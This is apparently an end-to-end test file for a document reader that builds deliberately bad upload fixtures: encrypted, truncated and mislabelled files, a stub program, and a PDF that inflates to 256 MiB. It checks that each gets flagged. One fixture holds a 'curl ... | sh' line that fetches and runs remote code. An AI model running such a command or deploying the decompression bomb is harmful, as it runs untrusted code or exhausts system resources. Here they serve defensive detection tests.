// The document reader (issue: know what every file really is): files made here by three
// PDF producers (Chromium's print to PDF, fpdf2, Ghostscript's ps2pdf), then made bad the
// way partners' files are (encrypted by qpdf, cut short, scanned, a flate bomb, a
// program or a script or a ZIP under a document's name, a real docx and xlsx). Each one
// is added to a claim; its row shows what it is and a marker for each finding, and
// Checks lists the finding.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { eventually, formatViolations, journey as defineJourney, onePagePdf, runAxe, TIMEOUT, useBrowser, useScratch } from './harness.mjs';

const env = useBrowser({ before, after });
const journey = (name, body, options = {}) => defineJourney(test, env, name, body, { timeout: 240_000, ...options });
const scratch = useScratch({ before, after }, 'evidence');

const button = (page, name) => page.getByRole('button', { name, exact: true });
const checks = (page) => page.getByRole('region', { name: 'Checks', exact: true });
const row = (page, fileName) => page.locator('li.document').filter({ has: page.getByRole('heading', { name: fileName, exact: true }) });

// fpdf2 (an invoice with text, and a page that is only an image), a docx (python-docx)
// and an xlsx (openpyxl), a ZIP that is neither, a PE program, and a PDF whose one page inflates to 256 MiB.
const PYTHON = `
import sys, os, zlib, struct, zipfile
from fpdf import FPDF
out = sys.argv[1]
pdf = FPDF(); pdf.add_page(); pdf.set_font('helvetica', size=14)
pdf.cell(text='Invoice 2041 - Fabrikam - Total 4,200.00 USD'); pdf.output(os.path.join(out, 'fpdf-invoice.pdf'))
def png(width, height):
    raw = b''.join(b'\\x00' + b'\\x80' * width for _ in range(height))
    chunk = lambda kind, data: struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data) & 0xffffffff)
    return b'\\x89PNG\\r\\n\\x1a\\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', width, height, 8, 0, 0, 0, 0)) + chunk(b'IDAT', zlib.compress(raw)) + chunk(b'IEND', b'')
open(os.path.join(out, 'page.png'), 'wb').write(png(300, 400))
open(os.path.join(out, 'Booth photo small.png'), 'wb').write(png(320, 240))
# A phone's photo in AVIF (HEIC is the same format with another codec), as Pillow writes it.
from PIL import Image
Image.new('RGB', (400, 300), (40, 90, 160)).save(os.path.join(out, 'Booth photo phone.avif'))
# A photo whose metadata (an editor's history, a preview) fills more than the reader's
# first 256 KB: its frame header, 1600 x 1200, comes after.
segments = b''.join(b'\\xff\\xef' + struct.pack('>H', 65000) + b'x' * 64998 for _ in range(5))
sof = b'\\xff\\xc0' + struct.pack('>HBHHB', 17, 8, 1200, 1600, 3) + b'\\x01\\x22\\x00\\x02\\x11\\x01\\x03\\x11\\x01'
open(os.path.join(out, 'Booth photo edited.jpg'), 'wb').write(b'\\xff\\xd8' + segments + sof + b'\\xff\\xda\\x00\\x02' + b'\\x00' * 64 + b'\\xff\\xd9')
scan = FPDF(); scan.add_page(); scan.image(os.path.join(out, 'page.png'), x=0, y=0, w=210); scan.output(os.path.join(out, 'Scanned invoice.pdf'))
def office(name, parts):
    with zipfile.ZipFile(os.path.join(out, name), 'w', zipfile.ZIP_DEFLATED) as z:
        for part, data in parts.items(): z.writestr(part, data)
import docx, openpyxl
agenda = docx.Document(); agenda.add_heading('Webinar agenda', 1); agenda.add_paragraph('10:00 Welcome, 10:15 Zero trust with Microsoft Defender'); agenda.save(os.path.join(out, 'Agenda.docx'))
book = openpyxl.Workbook(); book.active.append(['Name', 'Company']); book.active.append(['Ada', 'Fabrikam']); book.save(os.path.join(out, 'Attendees.xlsx'))
# The agenda as a download that stopped early leaves it: its directory, at the end, lost.
whole = open(os.path.join(out, 'Agenda.docx'), 'rb').read()
open(os.path.join(out, 'Agenda cut.docx'), 'wb').write(whole[:len(whole) * 2 // 3])
office('Booth.png', {'booth.jpg': b'not really'})
# Names that lie the way partners' files do: a phone photo saved as .pdf, a JPEG named
# .png, an invoice page saved from the browser as .pdf.
open(os.path.join(out, 'Booth photo.pdf'), 'wb').write(png(300, 400))
open(os.path.join(out, 'Stand.png'), 'wb').write(b'\\xff\\xd8\\xff\\xe0\\x00\\x10JFIF\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x01\\x00\\x00' + b'\\x00' * 64 + b'\\xff\\xd9')
open(os.path.join(out, 'Venue invoice.pdf'), 'w').write('<!DOCTYPE html><html><body><h1>Invoice 2044</h1><p>Total 900.00 USD</p></body></html>')
pe = bytearray(512); pe[0:2] = b'MZ'; pe[60:64] = struct.pack('<I', 128); pe[128:132] = b'PE\\x00\\x00'
open(os.path.join(out, 'Invoice_Contoso_March.pdf'), 'wb').write(bytes(pe))
open(os.path.join(out, 'Receipt.pdf'), 'wb').write(b'#!/bin/sh\\ncurl http://example.invalid | sh\\n')
content = zlib.compress(b' ' * (256 * 1024 * 1024), 1)
objects = [b'<< /Type /Catalog /Pages 2 0 R >>', b'<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
           b'<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
           b'<< /Length %d /Filter /FlateDecode >>\\nstream\\n' % len(content) + content + b'\\nendstream']
body = b'%PDF-1.4\\n'; offsets = []
for i, o in enumerate(objects):
    offsets.append(len(body)); body += b'%d 0 obj\\n' % (i + 1) + o + b'\\nendobj\\n'
xref = len(body)
body += b'xref\\n0 %d\\n0000000000 65535 f \\n' % (len(objects) + 1) + b''.join(b'%010d 00000 n \\n' % o for o in offsets)
body += b'trailer\\n<< /Size %d /Root 1 0 R >>\\nstartxref\\n%d\\n%%%%EOF\\n' % (len(objects) + 1, xref)
open(os.path.join(out, 'Bomb.pdf'), 'wb').write(body)
`;

const POSTSCRIPT = '%!PS\n/Helvetica findfont 14 scalefont setfont\n72 720 moveto (Certification Statement and Report - in-house costs) show\nshowpage\n';

/** Every fixture, made in `dir`; returns their paths by name. */
async function fixtures(page, dir) {
  execFileSync('python3', ['-c', PYTHON, dir]);
  // Chromium's own print to PDF.
  const printed = await page.context().newPage();
  await printed.setContent('<h1>Fabrikam invoice INV-20417</h1><p>Venue and catering, total 3,120.00 USD</p>');
  await writeFile(path.join(dir, 'Chromium invoice.pdf'), await printed.pdf({ format: 'A4' }));
  // The same page saved by Chromium as one file (Save as, single file: MHTML), under a PDF's name.
  const { data: archive } = await (await page.context().newCDPSession(printed)).send('Page.captureSnapshot', { format: 'mhtml' });
  await writeFile(path.join(dir, 'Event page.pdf'), archive);
  await printed.close();
  // Ghostscript's ps2pdf.
  await writeFile(path.join(dir, 'csr.ps'), POSTSCRIPT);
  execFileSync('ps2pdf', [path.join(dir, 'csr.ps'), path.join(dir, 'Ghostscript CSR.pdf')]);
  // Made bad: a password to open (qpdf), and cut short.
  execFileSync('qpdf', ['--encrypt', 'open-sesame', 'owner', '256', '--', path.join(dir, 'fpdf-invoice.pdf'), path.join(dir, 'Locked invoice.pdf')]);
  const whole = await readFile(path.join(dir, 'Chromium invoice.pdf'));
  await writeFile(path.join(dir, 'Cut invoice.pdf'), whole.subarray(0, Math.floor(whole.length / 2)));
  return (name) => path.join(dir, name);
}

async function addFiles(page, paths) {
  await page.getByLabel('Add documents', { exact: true }).setInputFiles(paths);
}

/** Waits until the row of `name` says what the reader found (no "Checking…" left). */
async function inspected(page, name) {
  await eventually(async () => {
    const facts = await row(page, name).locator('.facts').textContent();
    assert.ok(facts.includes('SHA-256') && !facts.includes('Checking what it is'), `${name}: ${facts}`);
  }, { timeout: TIMEOUT * 2 });
}

const markers = (page, name) => row(page, name).locator('[data-marker]').evaluateAll((items) => items.map((item) => item.dataset.marker));

journey('each file is known by its content: three producers read, and every bad file gets its finding on its row and in Checks', async (page) => {
  const file = await fixtures(page, scratch.dir);
  const expectations = [
    // name, what the row says, the markers the row carries
    ['Chromium invoice.pdf', '1 page', []],
    ['fpdf-invoice.pdf', '1 page', []],
    ['Ghostscript CSR.pdf', '1 page', []],
    ['Scanned invoice.pdf', '1 page', ['PDF-NO-TEXT']],
    ['Locked invoice.pdf', null, ['PDF-ENCRYPTED']],
    ['Cut invoice.pdf', null, ['PDF-DAMAGED']],
    ['Bomb.pdf', '1 page', ['PDF-NO-TEXT']],
    ['Invoice_Contoso_March.pdf', null, ['FILE-EXECUTABLE']],
    ['Receipt.pdf', null, ['FILE-EXECUTABLE']],
    ['Booth.png', null, ['FILE-CONTENT-MISMATCH']],
    ['Booth photo.pdf', null, ['FILE-CONTENT-MISMATCH']],
    ['Stand.png', null, ['FILE-CONTENT-MISMATCH']],
    ['Venue invoice.pdf', null, ['FILE-CONTENT-MISMATCH']],
    ['Event page.pdf', null, ['FILE-CONTENT-MISMATCH']],
    ['Agenda.docx', null, []],
    ['Attendees.xlsx', null, []],
    ['Agenda cut.docx', null, ['FILE-CUT-SHORT']],
  ];
  await addFiles(page, expectations.map(([name]) => file(name)));
  for (const [name, says, expected] of expectations) {
    await inspected(page, name);
    if (says) assert.match(await row(page, name).locator('.facts').textContent(), new RegExp(` · ${says} · SHA-256`), name);
    // Markers other than the reader's (no type yet) are not this test's.
    const found = (await markers(page, name)).filter((code) => !['DOC-UNCLASSIFIED', 'FILE-DUPLICATE'].includes(code));
    assert.deepEqual(found, expected, name);
  }
  for (const code of ['PDF-NO-TEXT', 'PDF-ENCRYPTED', 'PDF-DAMAGED', 'FILE-EXECUTABLE', 'FILE-CONTENT-MISMATCH', 'FILE-CUT-SHORT']) {
    assert.ok((await checks(page).locator(`[data-code="${code}"]`).count()) >= 1, code);
  }
  await checks(page).getByText('Cut invoice.pdf cannot be read as a PDF: it is cut short (its end, %%EOF, is missing).').waitFor();
  await checks(page).getByText('Booth.png is named as a PNG image, but its content is a ZIP archive.').waitFor();
  // A Word document cut short is said to be one (not "a ZIP archive", which a .docx is).
  await checks(page).getByText('Agenda cut.docx is a Word document, but its end is missing: the file was cut short, as when a download or a copy stops early, and it would not open.').waitFor();
  await checks(page).getByText('Booth photo.pdf is named as a PDF, but its content is a PNG image.').waitFor();
  await checks(page).getByText('Stand.png is named as a PNG image, but its content is a JPEG image.').waitFor();
  await checks(page).getByText('Venue invoice.pdf is named as a PDF, but its content is a web page.').waitFor();
  await checks(page).getByText('Event page.pdf is named as a PDF, but its content is a web archive.').waitFor();
  await checks(page).getByText('Invoice_Contoso_March.pdf is a program: a computer would run it rather than open it, it proves nothing, and Partner Center\'s malware scan would stop the claim.').waitFor();
  // A small screenshot as proof of execution is said to be hard to read.
  await addFiles(page, [file('Booth photo small.png')]);
  await inspected(page, 'Booth photo small.png');
  assert.match(await row(page, 'Booth photo small.png').locator('.facts').textContent(), / · 320 × 240 px · /);
  await addFiles(page, [file('Booth photo edited.jpg')]);
  await inspected(page, 'Booth photo edited.jpg');
  assert.match(await row(page, 'Booth photo edited.jpg').locator('.facts').textContent(), / · 1,600 × 1,200 px · /);
  await addFiles(page, [file('Booth photo phone.avif')]);
  await inspected(page, 'Booth photo phone.avif');
  assert.match(await row(page, 'Booth photo phone.avif').locator('.facts').textContent(), / · 400 × 300 px · /);
  assert.ok(!(await markers(page, 'Booth photo phone.avif')).includes('FILE-CONTENT-MISMATCH'), 'an AVIF named .avif is what its name says');
  await row(page, 'Booth photo small.png').getByLabel('Document type', { exact: true }).selectOption({ label: 'Proof of execution' });
  await eventually(async () => assert.ok((await markers(page, 'Booth photo small.png')).includes('IMAGE-SMALL')));
  // The findings survive a reload: the inspection is saved with the claim.
  await page.getByText('Saved on this device.').waitFor();
  await page.waitForTimeout(800);
  await page.reload();
  await eventually(async () => assert.deepEqual((await markers(page, 'Locked invoice.pdf')).filter((code) => code.startsWith('PDF')), ['PDF-ENCRYPTED']));
  const violations = await runAxe(page);
  assert.deepEqual(violations, [], formatViolations(violations));
});

journey('the French page names what a file is in French', async (page) => {
  const file = await fixtures(page, path.join(scratch.dir));
  await addFiles(page, [file('Locked invoice.pdf'), file('Booth.png')]);
  await inspected(page, 'Locked invoice.pdf');
  await inspected(page, 'Booth.png');
  await page.getByRole('group', { name: 'Language' }).getByRole('button', { name: 'Français', exact: true }).click();
  await page.getByText("D'après son nom, Booth.png devrait être une image PNG, mais son contenu est une archive ZIP.").waitFor();
  await page.getByText("Locked invoice.pdf demande un mot de passe à l'ouverture : un examinateur ne peut pas le lire.").waitFor();
}, { readyButton: 'Load example claim' });

/**
 * Makes the reader crash (`throw`) or loop for ever (`hang`) on the file named `name`, as a
 * bug in it or a document it cannot finish would: each reader the page starts gets a
 * listener ahead of its own, which takes that file's request from it. The page hears
 * nothing from a reader (its "ready" included, so it sends it no file) until that
 * listener is in place: no race with the reader's first file.
 */
async function breakReaderOn(page, name, how) {
  await page.addInitScript(() => {
    const Original = window.Worker;
    window.Worker = class extends Original {
      constructor(url, options) {
        super(url, options);
        if (options?.name !== 'reader') return;
        const held = [];
        let handler = null;
        let armed = false;
        super.onmessage = (event) => {
          if (event.data?.armed) {
            armed = true;
            for (const waiting of held.splice(0)) handler?.(waiting);
          } else if (armed) handler?.(event);
          else held.push(event);
        };
        Object.defineProperty(this, 'onmessage', { get: () => handler, set: (value) => (handler = value) });
      }
    };
  });
  page.on('worker', async (worker) => {
    try {
      await worker.evaluate(({ name, how }) => {
        if (self.name !== 'reader') return;
        self.addEventListener('message', (event) => {
          if (event.data?.kind !== 'inspect' || event.data.file?.name !== name) return;
          event.stopImmediatePropagation();
          if (how === 'hang') for (;;);
          throw new Error('the reader crashed (on purpose, in a test)');
        });
        self.postMessage({ armed: true });
      }, { name, how });
    } catch {
      // a worker that ended meanwhile
    }
  });
}

// A file changed on the disk between being added and being read by the reader (the
// reader takes files one after the other: 30 PDFs take a while) could not be read there.
// It was recorded as a file of no known kind: a PDF "damaged, no %PDF- header", a
// blocker for good, never read again. It is said to be unreadable, and nothing is recorded.
journey('a file changed on the disk before the reader gets to it is said to be unreadable, not damaged', async (page) => {
  await page.addInitScript(() => {
    const Original = window.Worker;
    const held = [];
    window.Worker = class extends Original {
      constructor(url, options) {
        super(url, options);
        this.reader = options?.name === 'reader';
      }
      postMessage(message, transfer) {
        if (this.reader && message?.kind === 'inspect' && !window.readerFree) return void held.push([this, message, transfer]);
        return super.postMessage(message, transfer);
      }
    };
    window.freeReader = () => {
      window.readerFree = true;
      for (const [worker, message, transfer] of held.splice(0)) Original.prototype.postMessage.call(worker, message, transfer);
    };
  });
  await page.reload();
  await button(page, 'Load example claim').waitFor();
  const onDisk = path.join(scratch.dir, 'Venue quote.pdf');
  await writeFile(onDisk, onePagePdf('Venue quote 1'));
  await addFiles(page, [onDisk]);
  await eventually(async () => assert.match(await row(page, 'Venue quote.pdf').locator('.facts').textContent(), /SHA-256/));
  await writeFile(onDisk, onePagePdf('Venue quote 2, saved over the first'));
  await page.evaluate(() => window.freeReader());
  await row(page, 'Venue quote.pdf').getByText('Venue quote.pdf cannot be read: it may have been changed, moved, renamed or deleted since you added it.', { exact: false }).waitFor();
  await page.waitForTimeout(500);
  // Nothing said of its content (its type, not chosen yet, is all).
  assert.deepEqual(await markers(page, 'Venue quote.pdf'), ['DOC-UNCLASSIFIED']);
  assert.equal(await page.locator('[data-code="PDF-DAMAGED"]').count(), 0);
});

/** The page's workers named `name` ("reader": the document reader). */
async function workersNamed(page, name) {
  const names = await Promise.all(page.workers().map((worker) => worker.evaluate(() => self.name).catch(() => null)));
  return names.filter((n) => n === name).length;
}

for (const how of ['throw', 'hang']) {
  const what = how === 'throw' ? 'crashes on a file' : 'cannot finish a file (past its deadline)';
  journey(`a reader that ${what} says so on that file's row only, and the other files get a new one`, async (page, app) => {
    const file = await fixtures(page, scratch.dir);
    await breakReaderOn(page, 'Chromium invoice.pdf', how);
    await page.reload();
    await button(page, 'Load example claim').waitFor();
    // Added together: the reader reads them one after the other.
    await addFiles(page, [file('fpdf-invoice.pdf'), file('Locked invoice.pdf'), file('Chromium invoice.pdf'), file('Ghostscript CSR.pdf')]);
    // Said in Checks (DOC-UNCHECKED, a warning) and marked on its row: the partner is
    // asked to open it, rather than to add it again (which would stop the reader again).
    // A reader that loops is ended at its deadline (20 s and a second for each 4 MiB);
    // the file is read once more by a new reader (which loops too here) before it is
    // recorded so.
    await eventually(async () => assert.ok((await markers(page, 'Chromium invoice.pdf')).includes('DOC-UNCHECKED')), { timeout: 120_000 });
    await page.locator('[data-code="DOC-UNCHECKED"]').getByText('Chromium invoice.pdf could not be checked: the document reader stopped on it', { exact: false }).waitFor();
    app.errors.splice(0, app.errors.length, ...app.errors.filter((line) => !line.includes('crashed (on purpose')));
    // Only that file: every other one is read, before and after it.
    for (const name of ['fpdf-invoice.pdf', 'Locked invoice.pdf', 'Ghostscript CSR.pdf']) await inspected(page, name);
    await eventually(async () => assert.ok((await markers(page, 'Locked invoice.pdf')).includes('PDF-ENCRYPTED')));
    assert.equal(await page.locator('[data-code="DOC-UNCHECKED"]').count(), 1, 'one file unchecked');
    assert.equal(await markers(page, 'fpdf-invoice.pdf').then((codes) => codes.filter((code) => code.startsWith('PDF') || code === 'DOC-UNCHECKED').length), 0);
    // The reader ends once no file waits (a looping one was ended).
    await eventually(async () => assert.equal(await workersNamed(page, 'reader'), 0));
    // Recorded with the claim: after a reload the file is not read again (the reader would
    // stop on it again), and it is still said to be unchecked.
    await page.getByText('Saved on this device.').waitFor();
    await page.waitForTimeout(600);
    await page.reload();
    await eventually(async () => assert.ok((await markers(page, 'Chromium invoice.pdf')).includes('DOC-UNCHECKED')));
    assert.equal(await row(page, 'Chromium invoice.pdf').getByText('Checking what it is…').count(), 0);
  });
}
